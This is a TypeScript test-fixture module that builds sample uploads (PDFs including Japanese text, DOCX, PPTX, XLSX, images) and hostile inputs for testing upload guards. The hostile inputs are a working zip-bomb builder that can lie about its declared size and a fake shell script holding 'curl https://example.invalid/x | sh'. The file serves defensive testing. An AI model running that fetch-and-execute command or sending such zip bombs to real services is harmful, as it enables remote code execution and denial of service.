/**
 * Factories for real uploaded files in tests: PDFs (Japanese too), DOCX, PPTX,
 * PNG, hostile zips and executables. Test-only: they use dev dependencies.
 */
import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32, deflateRawSync, constants as zlibConstants } from "node:zlib";
import { createCanvas } from "@napi-rs/canvas";
import fontkit from "@pdf-lib/fontkit";
import { Document, Packer, Paragraph, TextRun } from "docx";
import {
  beginText,
  endText,
  moveText,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  rgb,
  StandardFonts,
  setFontAndSize,
  showText,
} from "pdf-lib";
import PptxGenJS from "pptxgenjs";
import yauzl from "yauzl";

/** Debian's fonts-ipafont-gothic; a Japanese PDF embeds a subset of it. */
const IPA_GOTHIC_CANDIDATES = [
  "/usr/share/fonts/opentype/ipafont-gothic/ipag.ttf",
  "/usr/share/fonts/truetype/ipafont-gothic/ipag.ttf",
  "/usr/share/fonts/truetype/fonts-japanese-gothic.ttf",
];

function ipaGothicPath(): string {
  const found = IPA_GOTHIC_CANDIDATES.find((p) => existsSync(p));
  if (!found) throw new Error("IPA Gothic font not found: apt-get install fonts-ipafont-gothic");
  return found;
}

/**
 * A PDF with one page per string (lines split on "\n"). `japanese` embeds a
 * subset of IPA Gothic so kana and kanji draw; `japanese: "font-not-embedded"`
 * instead names Kozuka Mincho without embedding it, with the UniJIS-UCS2-H
 * character map, as many Japanese business PDFs do (text only, it draws no glyphs).
 */
export async function makePdf(opts: {
  pages: string[];
  japanese?: boolean | "font-not-embedded";
}): Promise<Buffer> {
  if (opts.japanese === "font-not-embedded") return makePdfWithoutEmbeddedFont(opts.pages);
  const pdf = await PDFDocument.create();
  let font: Awaited<ReturnType<typeof pdf.embedFont>>;
  if (opts.japanese) {
    pdf.registerFontkit(fontkit);
    font = await pdf.embedFont(await readFile(ipaGothicPath()), { subset: true });
  } else {
    font = await pdf.embedFont(StandardFonts.Helvetica);
  }
  for (const [index, text] of opts.pages.entries()) {
    const page = pdf.addPage([595, 842]); // A4 in points
    page.drawRectangle({ x: 0, y: 742, width: 595, height: 100, color: rgb(0.1, 0.3, 0.6) });
    let y = 700;
    for (const line of text.split("\n")) {
      page.drawText(line, { x: 50, y, size: 14, font, color: rgb(0, 0, 0) });
      y -= 20;
    }
    page.drawText(String(index + 1), { x: 290, y: 30, size: 10, font });
  }
  return Buffer.from(await pdf.save());
}

async function makePdfWithoutEmbeddedFont(pages: string[]): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const context = pdf.context;
  const fontName = "KozMinPr6N-Regular";
  const descriptor = context.register(
    context.obj({
      Type: "FontDescriptor",
      FontName: fontName,
      Flags: 4,
      FontBBox: [-437, -340, 1147, 1317],
      ItalicAngle: 0,
      Ascent: 1317,
      Descent: -349,
      CapHeight: 742,
      StemV: 80,
    }),
  );
  const cidFont = context.register(
    context.obj({
      Type: "Font",
      Subtype: "CIDFontType0",
      BaseFont: fontName,
      CIDSystemInfo: { Registry: PDFString.of("Adobe"), Ordering: PDFString.of("Japan1"), Supplement: 6 },
      FontDescriptor: descriptor,
      DW: 1000,
    }),
  );
  const font = context.register(
    context.obj({
      Type: "Font",
      Subtype: "Type0",
      BaseFont: fontName,
      Encoding: "UniJIS-UCS2-H",
      DescendantFonts: [cidFont],
    }),
  );
  for (const text of pages) {
    const page = pdf.addPage([595, 842]);
    page.node.setFontDictionary(PDFName.of("F1"), font);
    let y = 700;
    for (const line of text.split("\n")) {
      // UniJIS-UCS2-H: each character is its UTF-16 code unit, big-endian
      const hex = [...line].map((c) => (c.codePointAt(0) ?? 0).toString(16).padStart(4, "0")).join("");
      page.pushOperators(
        beginText(),
        setFontAndSize("F1", 14),
        moveText(50, y),
        showText(PDFHexString.of(hex)),
        endText(),
      );
      y -= 20;
    }
  }
  return Buffer.from(await pdf.save());
}

/** A DOCX with one paragraph per string. */
export async function makeDocx(paragraphs: string[]): Promise<Buffer> {
  const doc = new Document({
    sections: [{ children: paragraphs.map((p) => new Paragraph({ children: [new TextRun(p)] })) }],
  });
  return Packer.toBuffer(doc);
}

/** A PPTX with one slide per entry, speaker notes where given; `thumbnailWidth` adds docProps/thumbnail.jpeg. */
export async function makePptx(
  slides: Array<{ text: string; notes?: string }>,
  opts: { thumbnailWidth?: number } = {},
): Promise<Buffer> {
  const pptx = new PptxGenJS();
  for (const { text, notes } of slides) {
    const slide = pptx.addSlide();
    slide.addText(text, { x: 0.5, y: 0.5, w: 9, h: 1.5, fontSize: 24 });
    if (notes) slide.addNotes(notes);
  }
  const data = Buffer.from((await pptx.write({ outputType: "nodebuffer" })) as Uint8Array);
  if (!opts.thumbnailWidth) return data;
  const entries = await readZipEntries(data);
  entries.push({
    name: "docProps/thumbnail.jpeg",
    data: makeJpeg(opts.thumbnailWidth, opts.thumbnailWidth * 0.75),
  });
  return makeZip(entries);
}

const escapeXml = (text: string) =>
  text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

/** A minimal XLSX: one sheet per entry, its cells down column A as shared strings. */
export function makeXlsx(sheets: Array<{ name: string; cells: string[] }>): Buffer {
  const ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const strings = sheets.flatMap((sheet) => sheet.cells);
  let next = 0;
  const sheetParts = sheets.map((sheet, i) => ({
    name: `xl/worksheets/sheet${i + 1}.xml`,
    data: `<?xml version="1.0" encoding="UTF-8"?><worksheet ${ns}><sheetData>${sheet.cells
      .map((_, row) => `<row r="${row + 1}"><c r="A${row + 1}" t="s"><v>${next++}</v></c></row>`)
      .join("")}</sheetData></worksheet>`,
  }));
  return makeZip([
    {
      name: "[Content_Types].xml",
      data: `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    },
    {
      name: "_rels/.rels",
      data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: "xl/workbook.xml",
      data: `<?xml version="1.0" encoding="UTF-8"?><workbook ${ns} xmlns:r="${rel}"><sheets>${sheets
        .map((sheet, i) => `<sheet name="${escapeXml(sheet.name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`)
        .join("")}</sheets></workbook>`,
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${sheets
        .map(
          (_, i) =>
            `<Relationship Id="rId${i + 1}" Type="${rel}/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`,
        )
        .join("")}</Relationships>`,
    },
    ...sheetParts,
    {
      name: "xl/sharedStrings.xml",
      data: `<?xml version="1.0" encoding="UTF-8"?><sst ${ns} count="${strings.length}" uniqueCount="${strings.length}">${strings
        .map((text) => `<si><t xml:space="preserve">${escapeXml(text)}</t></si>`)
        .join("")}</sst>`,
    },
  ]);
}

function drawSample(width: number, height: number) {
  const canvas = createCanvas(width, height);
  const context = canvas.getContext("2d");
  const gradient = context.createLinearGradient(0, 0, width, height);
  gradient.addColorStop(0, "#1f4e8c");
  gradient.addColorStop(1, "#f2a900");
  context.fillStyle = gradient;
  context.fillRect(0, 0, width, height);
  return canvas;
}

/** A real PNG image of this size. */
export function makePng(width: number, height: number): Buffer {
  return drawSample(width, height).encodeSync("png");
}

export function makeJpeg(width: number, height: number): Buffer {
  return drawSample(Math.round(width), Math.round(height)).encodeSync("jpeg", 85);
}

export function makeWebp(width: number, height: number): Buffer {
  return drawSample(width, height).encodeSync("webp", 80);
}

/** A 1×1 GIF, byte by byte. */
export function makeGif(): Buffer {
  return Buffer.from("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==", "base64");
}

/** The head of an MP4 file: an `ftyp` box (brand isom) and an empty `free` box. */
export function makeMp4(): Buffer {
  const ftyp = Buffer.concat([
    Buffer.from([0, 0, 0, 0x18]),
    Buffer.from("ftypisom\0\0\x02\0isomiso2", "latin1"),
  ]);
  return Buffer.concat([ftyp, Buffer.from([0, 0, 0, 8]), Buffer.from("free", "latin1")]);
}

export interface ZipEntryInput {
  name: string;
  data: Buffer | string;
}

interface RawZipEntry {
  name: string;
  method: 0 | 8;
  compressed: Buffer;
  crc: number;
  /** Written to the headers; a zip bomb may lie here. */
  declaredSize: number;
}

/** A zip archive of these entries, deflated. */
export function makeZip(entries: ZipEntryInput[]): Buffer {
  return writeZip(
    entries.map(({ name, data }) => {
      const bytes = typeof data === "string" ? Buffer.from(data) : data;
      return {
        name,
        method: 8,
        compressed: deflateRawSync(bytes),
        crc: crc32(bytes),
        declaredSize: bytes.length,
      };
    }),
  );
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;

/**
 * A DOCX-shaped zip ([Content_Types].xml, word/document.xml) whose document
 * inflates to `inflatedMb` MB of zero bytes (default 300) while the file stays
 * near 1 KB per MB. `lieAboutSize` declares the part as 1 KB, so only a guard
 * that counts the bytes it really inflates can stop it.
 */
export function makeZipBomb(opts: { inflatedMb?: number; lieAboutSize?: boolean } = {}): Buffer {
  const megabytes = opts.inflatedMb ?? 300;
  const zeros = Buffer.alloc(1024 * 1024);
  // after a full flush no match reaches back, so one deflated megabyte can be repeated; 03 00 ends the stream
  const block = deflateRawSync(zeros, { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH });
  const compressed = Buffer.concat([
    ...Array.from({ length: megabytes }, () => block),
    Buffer.from([0x03, 0x00]),
  ]);
  let crc = 0;
  for (let i = 0; i < megabytes; i += 1) crc = crc32(zeros, crc);
  const contentTypes = Buffer.from(CONTENT_TYPES);
  return writeZip([
    {
      name: "[Content_Types].xml",
      method: 8,
      compressed: deflateRawSync(contentTypes),
      crc: crc32(contentTypes),
      declaredSize: contentTypes.length,
    },
    {
      name: "word/document.xml",
      method: 8,
      compressed,
      crc,
      declaredSize: opts.lieAboutSize ? 1024 : megabytes * zeros.length,
    },
  ]);
}

/** A DOCX-shaped zip with `count` tiny entries (the entry-count guard). */
export function makeZipWithManyEntries(count: number): Buffer {
  const entries: ZipEntryInput[] = [
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "word/document.xml", data: "<w:document/>" },
  ];
  for (let i = entries.length; i < count; i += 1) entries.push({ name: `word/media/part${i}.xml`, data: "" });
  return makeZip(entries);
}

function writeZip(entries: RawZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, "utf8");
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(entry.method, 8);
    local.writeUInt16LE(0, 10); // time
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(entry.crc >>> 0, 14);
    local.writeUInt32LE(entry.compressed.length, 18);
    local.writeUInt32LE(entry.declaredSize, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4); // made by
    local.copy(central, 6, 4, 30); // version needed … name length, extra length
    central.writeUInt16LE(0, 32); // comment length
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.compressed);
    centrals.push(central, name);
    offset += local.length + name.length + entry.compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

async function readZipEntries(zipData: Buffer): Promise<ZipEntryInput[]> {
  const zip = await yauzl.fromBufferPromise(zipData, { lazyEntries: true });
  const entries: ZipEntryInput[] = [];
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName.endsWith("/")) continue;
    const chunks: Buffer[] = [];
    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    entries.push({ name: entry.fileName, data: Buffer.concat(chunks) });
  }
  return entries;
}

/** The first `length` bytes of a file, as an upload cut short would leave it. */
export function truncate(data: Buffer, length: number): Buffer {
  return Buffer.from(data.subarray(0, length));
}

/** The first bytes of a real executable of this kind, padded to look like a file. */
export function makeExecutable(kind: "elf" | "pe" | "macho" | "script"): Buffer {
  const heads = {
    elf: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
    pe: Buffer.concat([
      Buffer.from("MZ\x90\x00", "latin1"),
      Buffer.alloc(60),
      Buffer.from("PE\0\0", "latin1"),
    ]),
    macho: Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]),
    script: Buffer.from("#!/bin/sh\ncurl https://example.invalid/x | sh\n"),
  };
  return Buffer.concat([heads[kind], kind === "script" ? Buffer.alloc(0) : Buffer.alloc(512, 0x90)]);
}

/** A temporary directory for a test file's uploads; `write` returns the path. */
export async function makeTempDir(): Promise<{
  dir: string;
  write(name: string, data: Buffer | string): Promise<string>;
  remove(): Promise<void>;
}> {
  const dir = await mkdtemp(join(tmpdir(), "pitchside-files-"));
  return {
    dir,
    async write(name, data) {
      const path = join(dir, name);
      await writeFile(path, data);
      return path;
    },
    remove: () => rm(dir, { recursive: true, force: true }),
  };
}
